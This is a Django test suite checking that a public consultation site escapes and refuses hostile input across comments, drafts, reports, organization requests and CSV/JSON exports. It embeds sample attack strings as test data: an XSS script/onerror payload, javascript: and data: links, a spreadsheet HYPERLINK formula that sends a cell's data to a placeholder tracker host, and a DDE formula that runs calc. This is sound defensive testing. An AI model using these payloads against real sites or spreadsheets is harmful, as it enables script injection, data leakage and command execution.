"""What people might send to break the consultations, or to break into what
others read: markup in every field a member or an organization's staff
writes, characters a database refuses, odd addresses, bodies too big to
take. Markup is shown as text (or, in Markdown, sanitized) everywhere the
words appear; nothing answers with a server error; a refusal says why."""

import json

import pytest

from django.contrib.auth.models import Group
from django.test import Client
from django.utils import timezone

from consultations.models import (
    HeardReport,
    Organization,
    OrganizationRequest,
    PolicyDraftPage,
    Response,
    ResponseComment,
)
from consultations.services.organizations import organization_staff_add
from consultations.services.reports import because_field, change_field
from moderation.models import QueueItem
from tests.factories import UserFactory
from tests.html import parse

from ..site.test_hostile_input import HUGE_NUMBER
from ..site.test_no_third_party import fetched_urls, loads_from_elsewhere
from .factories import (
    make_closed_draft,
    make_draft,
    make_organization,
    make_outreach_worker,
    make_statement,
    respond_url,
    signed_in_client,
)

pytestmark = pytest.mark.django_db

PAYLOAD = '<script>alert("wwa")</script><img src=x onerror=alert(1)>'
SHOWN_AS_TEXT = "&lt;script&gt;alert("


def assert_no_markup_from(html: str, where: str) -> None:
    """Nothing of PAYLOAD reaches the page as markup (as text, even inside a
    form field's value, it is fine)."""
    assert "<script>alert" not in html, where
    tags = parse(html).tags
    assert not [attrs for tag, attrs in tags if tag == "img" and attrs.get("src") == "x"], where
    assert not [attrs for _tag, attrs in tags if "onerror" in attrs], where


def assert_shown_as_text(html: str, where: str) -> None:
    assert_no_markup_from(html, where)
    assert SHOWN_AS_TEXT in html, where


def page(client, url: str) -> str:
    response = client.get(url)
    assert response.status_code == 200, url
    return response.content.decode()


@pytest.fixture
def moderator(home):
    moderator = UserFactory(username="jules_moderator")
    moderator.groups.add(Group.objects.get(name="Peer moderators"))
    return moderator


@pytest.fixture
def staff(home):
    return UserFactory(username="casey_staff")


# ---- what members write ---------------------------------------------------------------


def test_markup_in_a_members_comments_is_shown_as_text_wherever_the_comments_appear(
    staff, moderator
):
    draft = make_draft(make_organization(staff=[staff]), show_live_results=True)
    writer = signed_in_client(UserFactory(username="river"))
    sections = list(draft.sections.all())
    writer.post(respond_url(draft, 1), {"stance": "agree", "comment": PAYLOAD, "go": "next"})
    writer.post(respond_url(draft, 2), {"stance": "unsure", "answer": PAYLOAD, "go": "next"})
    finish = {"overall": PAYLOAD, "quote_consent": "on", "go": "submit"}
    assert writer.post(respond_url(draft, "finish"), finish).status_code == 302
    statement = ResponseComment.objects.get(section_key=sections[0].key, part="comment")
    assert statement.body == PAYLOAD and statement.is_visible
    flagger = signed_in_client(UserFactory(username="sam_flags"))
    flag_url = f"/moderation/flag/consultations.responsecomment/{statement.pk}/"
    flagger.post(flag_url, {"reason": "spam", "note": PAYLOAD})
    item = QueueItem.objects.get(object_id=statement.pk)

    assert_shown_as_text(page(writer, respond_url(draft)), "their own response")
    assert_no_markup_from(page(Client(), draft.url), "the draft's page")
    assert_shown_as_text(page(Client(), draft.url + "results/"), "results")
    assert_shown_as_text(page(flagger, flag_url), "the flag form")
    assert_shown_as_text(
        page(signed_in_client(moderator), f"/moderation/queue/{item.pk}/"), "queue"
    )

    PolicyDraftPage.objects.filter(pk=draft.pk).update(closed_at=timezone.now())
    staff_client = signed_in_client(staff)
    write_url = draft.url + "report/write/"
    assert_shown_as_text(page(staff_client, write_url), "the report form's statements")
    key = sections[0].key
    published = staff_client.post(
        write_url,
        {
            "body": "We heard you.",
            change_field(key): "We kept the hours.",
            because_field(key): [statement.pk],
            "action": "publish",
        },
    )
    assert published.status_code == 302
    assert_shown_as_text(page(Client(), draft.url + "report/"), "the report's linked statements")


def test_a_members_words_reach_the_export_as_data_and_never_as_a_formula(staff):
    draft = make_closed_draft(make_organization(staff=[staff]))
    make_statement(draft, PAYLOAD)
    make_statement(draft, '=HYPERLINK("https://tracker.example/"&A1)', section=1)
    staff_client = signed_in_client(staff)

    as_json = staff_client.get(draft.url + "export/json/")
    as_csv = staff_client.get(draft.url + "export/csv/")

    for response in (as_json, as_csv):
        assert response["Content-Disposition"].startswith("attachment")
        assert response["X-Content-Type-Options"] == "nosniff"
    records = json.loads(b"".join(as_json.streaming_content))["responses"]
    assert PAYLOAD in [
        section["comment"] for record in records for section in record["sections"].values()
    ]
    text = b"".join(as_csv.streaming_content).decode("utf-8-sig")
    assert ",=HYPERLINK" not in text and "'=HYPERLINK" in text


# ---- what an organization's staff write -------------------------------------------------


def test_markup_in_a_drafts_words_is_shown_as_text_on_every_page_that_shows_them(staff, moderator):
    fields = {
        "summary": PAYLOAD,
        "plain_summary": PAYLOAD,
        "affects": PAYLOAD,
        "how_input_used": PAYLOAD,
        "who_reads": PAYLOAD,
    }
    sections = (
        (PAYLOAD, f"{PAYLOAD}\n\n[a link](javascript:alert(1))", PAYLOAD, PAYLOAD),
        ("=cmd|' /C calc'!A0", "Plain text.", "", ""),
    )
    organization = make_organization(staff=[staff])
    draft = make_draft(organization, title=PAYLOAD, slug="hostile", sections=sections)
    PolicyDraftPage.objects.filter(pk=draft.pk).update(**fields)
    member = signed_in_client(UserFactory(username="river"))
    member.post(respond_url(draft, 1), {"stance": "agree", "go": "next"})
    outreach = signed_in_client(make_outreach_worker())

    assert_shown_as_text(page(Client(), draft.url), "the draft's page")
    assert_shown_as_text(page(member, respond_url(draft)), "the response overview")
    section_screen = page(member, respond_url(draft, 1))
    assert_shown_as_text(section_screen, "a section's screen")
    assert 'href="javascript:' not in section_screen
    assert_shown_as_text(page(member, respond_url(draft, "finish")), "the last screen")
    assert_shown_as_text(page(outreach, draft.url + "respond/outreach/"), "outreach entry")
    assert_shown_as_text(page(Client(), draft.url + "results/"), "results")
    assert_shown_as_text(page(Client(), organization.get_absolute_url()), "organization page")
    assert_shown_as_text(page(Client(), "/consultations/"), "the consultations list")
    for route in ("print/", "changes/"):
        assert_no_markup_from(Client().get(draft.url + route).content.decode(), route)

    PolicyDraftPage.objects.filter(pk=draft.pk).update(closed_at=timezone.now())
    staff_client = signed_in_client(staff)
    assert_shown_as_text(page(staff_client, draft.url + "report/write/"), "the report form")
    header = staff_client.get(draft.url + "export/csv/")
    first_line = b"".join(header.streaming_content).decode("utf-8-sig").splitlines()[0]
    assert ",=cmd" not in first_line and "'=cmd" in first_line


def test_a_report_in_markdown_keeps_no_script_handler_foreign_image_or_script_link(staff):
    draft = make_closed_draft(make_organization(staff=[staff]))
    key = draft.sections.first().key
    body = (
        f"{PAYLOAD}\n\n"
        "[read this](javascript:alert(1)) and [this](data:text/html,<script>alert(1)</script>)\n\n"
        "![a pixel](https://tracker.example/pixel.gif)\n\n"
        '<a href="https://elsewhere.example/" onclick="alert(1)">raw link</a>\n\n'
        '<iframe src="https://elsewhere.example/"></iframe> <style>body{display:none}</style>'
    )
    staff_client = signed_in_client(staff)

    saved = staff_client.post(
        draft.url + "report/write/",
        {"body": body, change_field(key): PAYLOAD, "action": "publish"},
    )
    report = page(Client(), draft.url + "report/")

    assert saved.status_code == 302
    assert HeardReport.objects.get(draft=draft).body == body
    assert_shown_as_text(report, "the report")
    tags = parse(report).tags
    assert not [
        attrs for _tag, attrs in tags if attrs.get("href", "").startswith(("javascript", "data"))
    ]
    assert not [attrs for _tag, attrs in tags if "onclick" in attrs]
    assert not [tag for tag, _attrs in tags if tag in ("iframe", "style", "img")]
    assert not [found for found in fetched_urls(report) if loads_from_elsewhere(found[2])]


# ---- organizations and requests to act for one ---------------------------------------------


def test_markup_in_a_request_and_the_organization_made_from_it_is_shown_as_text(moderator):
    asker = UserFactory(username="eastside_asker")
    asking = signed_in_client(asker)
    sent = asking.post(
        "/organizations/ask/",
        {
            "organization_name": PAYLOAD,
            "description": PAYLOAD,
            "how_to_check": PAYLOAD,
            "website": "https://eastside.example/",
        },
    )
    assert sent.status_code == 302
    request = OrganizationRequest.objects.get(member=asker)
    item = QueueItem.objects.get(kind="organization_request", object_id=request.pk)
    moderating = signed_in_client(moderator)
    assert_shown_as_text(page(asking, "/organizations/ask/"), "the member's requests")
    assert_shown_as_text(page(moderating, f"/moderation/queue/{item.pk}/"), "queue item")

    verified = moderating.post(
        f"/organizations/requests/{item.pk}/decide/",
        {
            "decision": "new",
            "name": PAYLOAD,
            "slug": "eastside",
            "description": PAYLOAD,
            "website": "https://eastside.example/",
            "note": PAYLOAD,
        },
    )
    assert verified.status_code == 302
    organization = Organization.objects.get(slug="eastside")
    assert organization.name == " ".join(PAYLOAD.split())
    draft = make_closed_draft(organization, title="Drop-in hours")

    assert_shown_as_text(page(asking, "/organizations/ask/"), "the moderator's note")
    assert_shown_as_text(page(Client(), organization.get_absolute_url()), "organization page")
    assert_shown_as_text(page(moderating, "/organizations/eastside/manage/"), "manage page")
    assert_shown_as_text(page(Client(), "/consultations/"), "the consultations list")
    assert_shown_as_text(page(Client(), draft.url + "results/"), "results")
    admin_list = page(moderating, "/admin/organizations/")
    assert "<script>alert" not in admin_list and "<img src=x" not in admin_list


@pytest.mark.parametrize(
    "website",
    ["javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "ftp://files.example/"],
)
def test_a_website_that_isnt_a_web_address_is_refused_beside_the_field(home, website):
    asking = signed_in_client(UserFactory(username="eastside_asker"))

    response = asking.post(
        "/organizations/ask/",
        {
            "organization_name": "Eastside",
            "description": "A drop-in.",
            "how_to_check": "Call the front desk.",
            "website": website,
        },
    )

    assert response.status_code == 400
    assert "Enter a web address" in response.content.decode()
    assert response.context["form"]["description"].value() == "A drop-in."
    assert not OrganizationRequest.objects.exists()


# ---- characters the database refuses, and odd addresses --------------------------------------


NUL = "Evenings\x00work"


def test_a_nul_character_in_any_field_is_refused_beside_it_not_a_server_error(staff):
    draft = make_draft(make_organization(staff=[staff]))
    member = signed_in_client(UserFactory(username="river"))
    worker = signed_in_client(make_outreach_worker())
    closed = make_closed_draft(draft.organization, title="Closed one")
    staff_client = signed_in_client(staff)

    sent = [
        (member, respond_url(draft, 1), {"stance": "agree", "comment": NUL, "go": "next"}),
        (member, respond_url(draft, "finish"), {"overall": NUL, "go": "later"}),
        (
            worker,
            draft.url + "respond/outreach/",
            {"section_1_comment": NUL, "consent_confirmed": "on"},
        ),
        (staff_client, closed.url + "report/write/", {"body": NUL, "action": "save"}),
        (
            member,
            "/organizations/ask/",
            {"organization_name": NUL, "description": NUL, "how_to_check": NUL},
        ),
    ]

    for client, url, data in sent:
        response = client.post(url, data)
        assert response.status_code == 400, url
        assert "Null characters are not allowed" in response.content.decode(), url
    assert not ResponseComment.objects.exists()
    assert not HeardReport.objects.exists()


def test_odd_query_strings_on_every_draft_address_never_give_a_server_error(staff, moderator):
    draft = make_draft(make_organization(staff=[staff]))
    statement = make_statement(draft)
    routes = [
        "",
        "respond/",
        "respond/outreach/",
        f"statements/{statement.pk}/",
        "results/",
        "export/csv/",
        "export/json/",
        "report/",
        "report/write/",
        "print/",
        "changes/",
    ]
    values = [
        HUGE_NUMBER,
        "-1",
        "²",
        "٣",
        "1.0",
        " 1",
        "%00",
        "%ff%fe",
        "%ed%a0%80",
        "%3Cscript%3E",
    ]
    clients = [signed_in_client(UserFactory(username="river")), signed_in_client(moderator)]

    for client in clients:
        for route in routes:
            for value in values:
                url = f"{draft.url}{route}?step={value}&page={value}&q={value}"
                response = client.get(url)
                assert response.status_code in (200, 302, 400, 403, 404), url


def test_a_vote_that_isnt_agree_disagree_or_pass_is_refused_and_saves_nothing(home):
    draft = make_draft(make_organization())
    statement = make_statement(draft)
    voter = signed_in_client(UserFactory(username="river"))

    for choice in (PAYLOAD, "", "agree\x00", "AGREE"):
        response = voter.post(f"{draft.url}statements/{statement.pk}/", {"choice": choice})
        assert response.status_code == 302
    assert not statement.votes.exists()


def test_a_draft_with_letters_beyond_ascii_in_its_address_still_exports(staff):
    draft = make_closed_draft(make_organization(staff=[staff]), slug="horaires-été-ñ")

    response = signed_in_client(staff).get(draft.url + "export/csv/")

    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]


# ---- too much at once ----------------------------------------------------------------------------


def test_a_body_too_big_to_take_gets_the_sites_page_saying_what_happened(home):
    draft = make_draft(make_organization())
    member = Client(enforce_csrf_checks=True)
    member.force_login(UserFactory(username="river"))
    member.get(respond_url(draft, 1))
    token = member.cookies["csrftoken"].value

    response = member.post(
        respond_url(draft, 1),
        {"csrfmiddlewaretoken": token, "stance": "agree", "comment": "x" * 3_000_000},
    )

    text = response.content.decode()
    assert response.status_code == 413
    assert "too long to send" in text
    assert "data-quick-exit" in text  # the site's own page, quick exit and all
    assert not Response.objects.exists()


def test_too_many_fields_at_once_gets_the_sites_page_too(home):
    draft = make_draft(make_organization())
    member = Client(enforce_csrf_checks=True)
    member.force_login(UserFactory(username="river"))
    member.get(respond_url(draft, 1))
    token = member.cookies["csrftoken"].value

    response = member.post(
        respond_url(draft, 1),
        {"csrfmiddlewaretoken": token, **{f"field_{number}": "1" for number in range(1500)}},
    )

    assert response.status_code == 400
    assert "data-quick-exit" in response.content.decode()


@pytest.mark.parametrize(
    ("who", "route", "field", "limit", "extra"),
    [
        ("member", "respond/?step=1", "comment", 2000, {"stance": "agree", "go": "next"}),
        ("member", "respond/?step=finish", "overall", 2000, {"go": "later"}),
        ("staff", "report/write/", "body", 20_000, {"action": "save"}),
    ],
)
def test_text_too_long_is_refused_beside_its_field_saying_how_long_it_is(
    staff, who, route, field, limit, extra
):
    organization = make_organization(staff=[staff])
    draft = make_draft(organization) if who == "member" else make_closed_draft(organization)
    client = signed_in_client(staff if who == "staff" else UserFactory(username="river"))
    too_long = "word " * (limit // 5 + 100)

    response = client.post(draft.url + route, {field: too_long, **extra})

    text = response.content.decode()
    assert response.status_code == 400
    assert f"Keep this under {limit} characters. It has {len(too_long.strip())}." in text
    assert response.context["form"][field].value() == too_long


# ---- what every consultation page loads ------------------------------------------------


def test_no_consultation_page_loads_anything_from_another_origin_or_runs_inline_script(
    staff, moderator
):
    organization = make_organization(staff=[staff])
    draft = make_closed_draft(organization)
    make_statement(draft)
    open_draft = make_draft(organization, title="Open one", slug="open-one")
    member = UserFactory(username="river")
    organization_staff_add(organization=organization, member=staff)
    pages = [
        (None, "/consultations/"),
        (None, organization.get_absolute_url()),
        (None, draft.url),
        (None, draft.url + "results/"),
        (member, "/organizations/ask/"),
        (member, respond_url(draft)),
        (member, respond_url(open_draft, 1)),
        (member, respond_url(open_draft, "finish")),
        (make_outreach_worker(), open_draft.url + "respond/outreach/"),
        (staff, draft.url + "report/write/"),
        (staff, draft.url + "report/"),
        (moderator, organization.get_absolute_url() + "manage/"),
    ]

    for person, url in pages:
        client = signed_in_client(person) if person else Client()
        html = page(client, url)
        offenders = [found for found in fetched_urls(html) if loads_from_elsewhere(found[2])]
        assert offenders == [], url
        assert parse(html).inline_scripts == [], url
        assert " style=" not in html, url
